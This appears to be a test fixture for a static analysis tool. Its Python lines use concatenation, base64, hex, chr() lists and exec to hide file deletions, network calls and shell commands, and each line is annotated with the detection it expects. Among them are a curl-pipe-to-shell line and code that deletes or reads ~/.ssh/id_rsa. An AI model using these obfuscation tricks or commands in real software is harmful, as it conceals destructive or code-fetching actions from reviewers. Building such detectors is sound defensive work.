# --- concatenation, formatting, f-strings
import urllib.request as r
HOST = "example" + ".org"
r.urlopen("https://" + HOST)  # want net.connect @import -> "https://example.org"
r.urlopen("https://%s/a" % HOST)  # want net.connect @import -> "https://example.org/a"
r.urlopen("https://{}/b".format(HOST))  # want net.connect @import -> "https://example.org/b"
r.urlopen(f"https://{HOST}/c")  # want net.connect @import -> "https://example.org/c"
r.urlopen("https://{host}/d".format(host=HOST))  # want net.connect @import -> "https://example.org/d"
# --- join, replace, reverse, slices
import os
os.remove("".join(["a", ".", "txt"]))  # want fs.delete @import -> "a.txt"
os.remove("b_txt".replace("_", "."))  # want fs.delete @import -> "b.txt"
os.remove("txt.c"[::-1])  # want fs.delete @import -> "c.txt"
os.remove("xxd.txtxx"[2:-2])  # want fs.delete @import -> "d.txt"
os.remove("E.TXT".lower())  # want fs.delete @import -> "e.txt"
# --- character codes
import os
os.remove("".join(map(chr, [97, 46, 116])))  # want fs.delete @import -> "a.t"
os.remove("".join(chr(c) for c in (98, 46, 116)))  # want fs.delete @import -> "b.t"
os.remove(bytes([99, 46, 116]).decode())  # want fs.delete @import -> "c.t"
os.remove(chr(100) + ".t")  # want fs.delete @import -> "d.t"
# --- encodings
import base64, binascii, os
os.remove(base64.b64decode("YS50eHQ=").decode())  # want fs.delete @import -> "a.txt"
os.remove(bytes.fromhex("622e747874").decode())  # want fs.delete @import -> "b.txt"
os.remove(binascii.unhexlify("632e747874").decode())  # want fs.delete @import -> "c.txt"
# --- code in base64, zlib and hex that is run is a layer
import base64, zlib
exec(base64.b64decode("aW1wb3J0IG9zO29zLnJlbW92ZSgiYSIp"))  # want code.eval @import, want fs.delete @import -> "a"
exec(bytes.fromhex("6f70656e28226222293b"))  # want code.eval @import, want fs.read @import -> "b"
# --- code in a string
exec("import os\nos.remove('a')")  # want code.eval @import, want fs.delete @import -> "a"
eval("__import__('os').remove('b')")  # want code.eval @import, want fs.delete @import -> "b"
exec(compile("open('c')", "x", "exec"))  # want code.eval @import, want fs.read @import -> "c"
# --- a shell line that is run
import os
os.system("curl https://example.org/x | sh")  # want process.shell @import -> "curl https://example.org/x | sh", want net.connect @import -> "https://example.org/x", want process.shell @import
# --- paths
import os
from pathlib import Path
os.remove(os.path.join("a", "b.txt"))  # want fs.delete @import -> "a/b.txt"
(Path("a") / "c.txt").unlink()  # want fs.delete @import -> "a/c.txt"
os.remove(os.path.expanduser("~/.ssh/id_rsa"))  # want fs.delete @import -> "~/.ssh/id_rsa"
open(os.path.expanduser("~/.ssh/id_rsa"))  # want secrets.file @import -> "~/.ssh/id_rsa"
# --- urls
from urllib.parse import urljoin
import urllib.request as r
r.urlopen(urljoin("https://example.org/a/", "b"))  # want net.connect @import -> "https://example.org/a/b"
# --- what is known of a text that is not known whole
import urllib.request as r
def fetch(name):
    r.urlopen("https://example.org/" + name)  # want net.connect @call -> "https://example.org/{…}"
# --- a constant of another scope, and one that changes
import os
NAME = "a.txt"
def drop():
    os.remove(NAME)  # want fs.delete @call -> "a.txt"
def drop_mine():
    name = "b.txt"
    name += ".bak"
    os.remove(name)  # want fs.delete @call -> "b.txt.bak"
# --- a default, and what a caller gives
import os
def drop(name="a.txt"):
    os.remove(name)  # want fs.delete @call -> "a.txt", want fs.delete @call -> "{…}"
# --- a dictionary of settings
import os
SETTINGS = {"file": "a.txt", "more": {"file": "b.txt"}}
os.remove(SETTINGS["file"])  # want fs.delete @import -> "a.txt"
os.remove(SETTINGS["more"]["file"])  # want fs.delete @import -> "b.txt"
# --- percent escapes
import os
from urllib.parse import unquote
os.remove(unquote("a%2Etxt"))  # want fs.delete @import -> "a.txt"
# --- a list of words that is run
import subprocess
subprocess.run(["rm", "-r", "out"])  # want process.spawn @import -> "rm -r out", want fs.delete @import -> "out"

# --- map makes text of numbers
import os
import socket

exec("".join(map(chr, [111, 115, 46, 114, 101, 109, 111, 118, 101, 40, 34, 97, 34, 41])))  # want code.eval @import, want fs.delete @import -> "a"
socket.create_connection((".".join(map(str, (192, 0, 2, 1))), 80))  # want net.connect @import -> "192.0.2.1:80"
# --- what the standard library calls the folder above
import os
os.remove(os.path.join(os.curdir, os.pardir, "a.txt"))  # want fs.delete @import -> "./../a.txt"
os.remove("b" + os.sep + "c.txt")  # want fs.delete @import -> "b/c.txt"
